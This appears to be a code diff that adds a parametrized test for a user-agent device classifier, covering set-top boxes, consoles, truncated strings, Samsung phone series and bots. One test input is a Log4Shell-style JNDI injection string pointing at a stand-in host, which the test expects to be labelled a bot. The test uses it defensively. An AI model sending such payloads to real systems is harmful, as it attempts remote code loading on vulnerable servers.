@@ -691,3 +691,61 @@ def test_rules_compile_at_first_use_once_per_process(monkeypatch):
     assert len(device._shared_resolvers) == 1
     assert first._resolver is second._resolver is device.shared_resolver()
     assert first._classifier._loaded
+
+
+@pytest.mark.parametrize(
+    ("ua", "expected"),
+    [
+        # an Android set-top box named "…BOX" is a TV, not an Xbox; a Chromecast is a TV
+        (
+            "Mozilla/5.0 (Linux; Android 9; ACMEBOX-X1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+            "tv",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 12; Chromecast Build/STTE.230319.008.R3; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/120.0.6099.43 Mobile Safari/537.36",
+            "tv",
+        ),
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edge/20.02",
+            "console",
+        ),
+        # no "Mobile" means a tablet only in a whole browser string, not in one cut short
+        (
+            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 11; ABC-123 Build/RKQ1.201112.002; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/96.0.4664.45 Safari/537.36",
+            "tablet",
+        ),
+        # a Galaxy Z Fold opened drops "Mobile"; Samsung's phone series says what it is
+        (
+            "Mozilla/5.0 (Linux; Android 14; SM-F946B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 14; SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+            "tablet",
+        ),
+        # tools that say what they do, contact addresses, probes, Google's "Google-…" fetchers
+        (
+            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ExampleDiagnostics/1.0",
+            "bot",
+        ),
+        ("acme-survey/0.3 (contact: ops@example.org)", "bot"),
+        ("${jndi:ldap://probe.example/a}", "bot"),
+        ("Google-Safety", "bot"),
+        # and the same words do not make a phone's or an app's string a bot
+        (
+            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/440.0.0.33.117]",
+            "mobile",
+        ),
+        (
+            "Mozilla/5.0 (Linux; Android 13; Scanner X2) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
+            "mobile",
+        ),
+    ],
+)
+def test_general_rules_for_boxes_cut_strings_phone_series_and_tools(bolt, ua, expected):
+    [event] = bolt.process([make_event({"user_agent": ua})]).streams["default"]
+    assert event.value["device"]["device_class"] == expected
